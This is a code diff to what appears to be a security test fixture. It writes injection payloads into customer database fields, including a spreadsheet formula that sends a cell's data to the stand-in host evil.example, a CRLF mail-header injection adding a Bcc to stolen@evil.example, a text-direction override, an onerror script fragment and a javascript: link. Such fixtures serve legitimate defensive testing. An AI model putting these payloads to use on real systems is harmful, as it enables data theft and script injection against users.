@@ -15,6 +15,10 @@ export const SHOWN = "onerror=ran(1)";
 /** Starts like a formula, reverses the text direction, and breaks lines to inject mail headers. */
 const scriptOf = (lead: string) =>
   `${lead}HYPERLINK("http://evil.example?x="&A1)\u202E${MARKUP}\r\nBcc: stolen@evil.example\r\n\r\n@SUM(1)`;
+/** A customer's ID: as long as the address of the customer's page can be (key of 260 characters). */
+const idOf = (lead: string) => scriptOf(lead).slice(0, 250);
+/** The key of every customer after `insertPayloads`. */
+export const CUSTOMER_KEY = `id:${idOf("=")}`;
 /** An address that must never become a link. */
 const ADDRESS = `javascript:ran(9)//${MARKUP}`;
 
@@ -65,7 +69,7 @@ type Query = (sql: string) => Promise<unknown>;
 export async function insertPayloads(query: Query, lead = "="): Promise<void> {
   const literal = (text: string) => `convert_from(decode('${Buffer.from(text).toString("hex")}', 'hex'), 'UTF8')`;
   const script = literal(scriptOf(lead));
-  const object = `jsonb_build_object('id', ${script}, 'name', ${script}, ${literal(MARKUP)}, ${script})`;
+  const object = `jsonb_build_object('id', ${literal(idOf(lead))}, 'name', ${script}, ${literal(MARKUP)}, ${script})`;
   const updates = ([fields, value]: readonly [Record<string, string[]>, string]) =>
     Object.entries(fields).map(
       ([table, columns]) => `UPDATE ${table} SET ${columns.map((column) => `${column} = ${value}`).join(", ")};`,
